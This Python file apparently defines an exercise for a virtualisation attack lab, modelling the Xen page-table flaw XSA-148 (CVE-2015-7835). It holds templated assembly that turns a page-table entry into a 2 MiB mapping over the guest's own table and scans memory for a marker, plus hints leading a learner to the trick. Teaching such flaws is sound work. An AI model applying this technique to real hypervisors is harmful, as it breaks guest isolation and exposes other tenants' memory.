"""A page-table update that is not looked at closely enough: XSA-148, CVE-2015-7835."""

from vmwidgets.model.range.attack import Attack
from vmwidgets.model.words import said

TABLE_UPDATE = Attack(
    id="table_update",
    title=said("a page-table update without validation"),
    code="""
    mov rax, {call_page_table_update}
    mov rdi, {window_entry}
    mov rsi, {lowest_table}
    or rsi, 7                   ; present, writable, user: it leads to a table of mine, as it may
    vmcall
    cmp rax, -1000
    je own                      ; there is no such call, so the tables are mine to write
    mov rax, {call_page_table_update}
    or rsi, 0x80                ; the same entry, but now it maps 2 MiB that begin at my table
    vmcall
    jmp search
own:
    mov rdi, {window_entry_virtual}
    mov rsi, {vm_memory_at}
    or rsi, 0x87
    mov [rdi], rsi
search:
    mov rsi, {window}
    mov rcx, {window_pages}
    mov rbx, {mark}
look:
    cmp [rsi], rbx
    je found
    add rsi, {page_bytes}
    dec rcx
    jnz look
    jmp end
found:
    mov rax, {call_report}
    mov rdi, [rsi + 8]
    vmcall
end:
""",
    family="V1",
    number=6,
    like="CVE-2015-7835 (XSA-148)",
    hints=(
        said("Who writes your page tables, you or the layer below?"),
        said("An update that changes only flags takes a shorter way. Which flag changes what an entry means?"),
        said("Let the entry lead to a table of your own first, then set its bit 7: it maps 2 MiB from there on."),
    ),
)
"""Turns an entry that leads to a table into one that maps 2 MiB; where it writes its tables itself, it does that."""
